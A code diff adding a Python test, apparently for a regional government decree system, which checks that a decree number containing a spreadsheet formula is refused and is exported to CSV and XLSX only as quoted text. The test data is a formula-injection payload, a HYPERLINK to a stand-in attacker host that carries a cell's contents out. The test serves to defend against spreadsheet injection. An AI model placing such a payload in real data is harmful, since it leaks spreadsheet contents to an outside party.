@@ -590,3 +590,32 @@ def test_a_lane_below_the_years_region_is_refused_with_its_task_named(year):
     assert [p.element for p in refused.value.problems] == ["tinjauan_kabupaten"]
     with year.read() as session:  # nothing half-opened
         assert reconciliation.instance_of(session, YEAR) is None
+
+
+def test_a_decree_number_a_spreadsheet_would_run_is_refused_and_never_exported_as_a_formula(year):
+    import csv
+    import io
+    from datetime import date
+
+    import openpyxl
+
+    from engine.verification import determination_exports
+
+    head = _to_the_head(year, YEAR)
+    formula = '=HYPERLINK("http://contoh.jahat/?x="&A2,"SK 1/2026")'
+    refused_cmd = reconciliation.HeadDecision(head.id, "setuju", "", formula, "2026-11-25")
+    with pytest.raises(Invalid) as refused, year.transaction() as session:
+        reconciliation.decide_determination(session, person(year, "kepala.dinas"), refused_cmd)
+    assert [p.column for p in refused.value.problems] == ["nomor_sk"]
+    # one stored before the check (frozen directly here): its exports still show it as text
+    with year.transaction() as session:
+        frozen = determinations.freeze(
+            session, SYSTEM, determinations.Approval("65", YEAR, formula, date(2026, 11, 25))
+        )
+        tz = year.settings.tz
+        text = determination_exports.to_csv(session, frozen, tz).decode()
+        book = openpyxl.load_workbook(io.BytesIO(determination_exports.to_xlsx(session, frozen, tz)))
+    decree = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "# nomor_sk")
+    assert decree[1] == "'" + formula
+    cell = next(row[1] for row in book["metadata"].iter_rows() if row[0].value == "nomor_sk")
+    assert cell.value == "'" + formula and cell.data_type == "s"
